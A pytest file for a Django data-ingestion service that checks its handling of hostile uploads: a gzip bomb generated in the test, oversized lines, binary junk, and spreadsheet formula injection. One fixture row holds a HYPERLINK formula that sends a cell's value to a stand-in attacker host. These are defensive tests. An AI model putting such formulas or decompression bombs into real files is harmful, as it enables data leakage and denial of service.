"""Hostile files (issue 13): a gzip bomb, huge lines, binary junk and formulas in cells.

Each gets a clear error, memory stays bounded (measured with tracemalloc around the run), and
nothing is stored half. These run on SQLite (the slow path) and on PostgreSQL (the fast path).
"""

import csv
import gzip
import io
import json
import random
import tracemalloc
import zlib

import pytest
from django.urls import reverse

from bench.samples import conversation_rows, rows_to_csv
from metrics.ingest.formats import LINE_TOO_LONG, MAX_LINE_BYTES
from metrics.ingest.services import ingestion_run_create, ingestion_run_execute
from metrics.models import Conversation, DailyAggregate, IngestionRun, RejectedRow

pytestmark = pytest.mark.usefixtures("media_root")

MB = 1024 * 1024


def run_measured(operation, content: bytes, name: str) -> tuple[IngestionRun, int]:
    run = ingestion_run_create(
        operation=operation, file=io.BytesIO(content), file_name=name, via="cli"
    )
    del content
    tracemalloc.start()
    try:
        run = ingestion_run_execute(run_id=run.pk)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return run, peak


def gzip_of_one_line(prefix: bytes, size: int) -> bytes:
    """A gzip file whose content is `prefix` and then `size` bytes without a line break,
    compressed block by block so that the test never holds the expanded text."""
    out = io.BytesIO()
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: gzip container
    out.write(compressor.compress(prefix))
    block = b"a" * MB
    for _ in range(size // MB):
        out.write(compressor.compress(block))
    out.write(compressor.flush())
    return out.getvalue()


def nothing_stored() -> bool:
    return not (
        Conversation.objects.exists()
        or DailyAggregate.objects.exists()
        or RejectedRow.objects.exists()
    )


def test_a_small_gzip_expanding_to_one_huge_line_is_rejected_in_bounded_memory(personas):
    bomb = gzip_of_one_line(b"conversation_id,started_at,complexity,escalated\nc1,", 300 * MB)
    assert len(bomb) < 1 * MB

    run, peak = run_measured(personas.operation, bomb, "bomb.csv.gz")

    assert run.status == "failed"
    assert "expands to more than 100 times its size" in run.error
    assert peak < 20 * MB
    assert nothing_stored()


def test_a_header_line_of_ten_megabytes_rejects_the_file_whole(personas):
    content = b"conversation_id," + b"x" * (10 * MB) + b"\nc1,2025-01-01T00:00:00Z\n"

    run, peak = run_measured(personas.operation, content, "wide.csv")

    assert run.status == "failed"
    assert f"The first line is not a CSV header: {LINE_TOO_LONG}" in run.error
    assert peak < 3 * MAX_LINE_BYTES
    assert nothing_stored()


def test_a_forty_megabyte_line_among_good_rows_is_rejected_alone(personas):
    good = rows_to_csv(list(conversation_rows(300))).encode()
    huge = b"c-huge,2025-01-01T10:00:00Z,simple,no," + b"9" * (40 * MB) + b"\n"
    more = rows_to_csv(list(conversation_rows(200, prefix="d"))).encode().split(b"\n", 1)[1]

    run, peak = run_measured(personas.operation, good + huge + more, "huge.csv")

    assert run.status == "done", run.error
    assert run.report_line == "500 ingested, 0 updated, 1 rejected"
    reject = RejectedRow.objects.get(run=run)
    assert (reject.line, reject.reason) == (302, LINE_TOO_LONG)
    assert reject.original.startswith("c-huge,2025-01-01T10:00:00Z")
    assert len(reject.original) < 1000
    assert peak < 16 * MB  # the 40 MB line was never held


def test_a_ten_megabyte_json_line_is_rejected_alone(personas):
    rows = [
        {"conversation_id": "j1", "started_at": "2025-01-01T10:00:00Z"},
        {"conversation_id": "j2", "started_at": "2025-01-01T10:00:00Z", "note": "n" * 10 * MB},
        {"conversation_id": "j3", "started_at": "2025-01-01T10:00:00Z"},
    ]
    for row in rows:
        row.update(complexity="simple", escalated=False)
    content = "\n".join(json.dumps(r) for r in rows).encode()

    run, peak = run_measured(personas.operation, content, "long.jsonl")

    assert run.report_line == "2 ingested, 0 updated, 1 rejected"
    assert RejectedRow.objects.get(run=run).line == 2
    assert peak < 3 * MAX_LINE_BYTES


@pytest.mark.parametrize("name", ["junk.csv", "junk.csv.gz", "junk.jsonl"])
def test_binary_junk_is_rejected_whole(personas, name):
    junk = random.Random(13).randbytes(200_000)
    content = gzip.compress(junk) if name.endswith(".gz") else junk

    run, _ = run_measured(personas.operation, content, name)

    assert run.status == "failed"
    assert "binary" in run.error or "not UTF-8" in run.error
    assert nothing_stored()


def test_formulas_in_rejected_rows_are_escaped_in_the_csv_download(client, personas):
    content = (
        "conversation_id,started_at,complexity,escalated\n"
        '=HYPERLINK("http://evil.example/?x="&A1),2025-01-01T10:00:00Z,simple,maybe\n'
        "+1+2,2025-01-01T10:00:00Z,simple,maybe\n"
        "-3+4,2025-01-01T10:00:00Z,simple,maybe\n"
        "@SUM(A1),2025-01-01T10:00:00Z,simple,maybe\n"
        "plain,2025-01-01T10:00:00Z,simple,maybe\n"
    )
    run, _ = run_measured(personas.operation, content.encode(), "formulas.csv")
    assert run.rejected == 5
    client.force_login(personas.facilitator)  # (django-axes needs a request for login())

    response = client.get(reverse("metrics:run_rejects_csv", args=["eu-chat", run.pk]))

    body = b"".join(response.streaming_content).decode()
    table = list(csv.reader(io.StringIO(body)))
    originals = [row[3] for row in table[1:]]
    assert [o[:2] for o in originals] == ["'=", "'+", "'-", "'@", "pl"]
    for row in table[1:]:
        assert not row[3].startswith(("=", "+", "-", "@"))
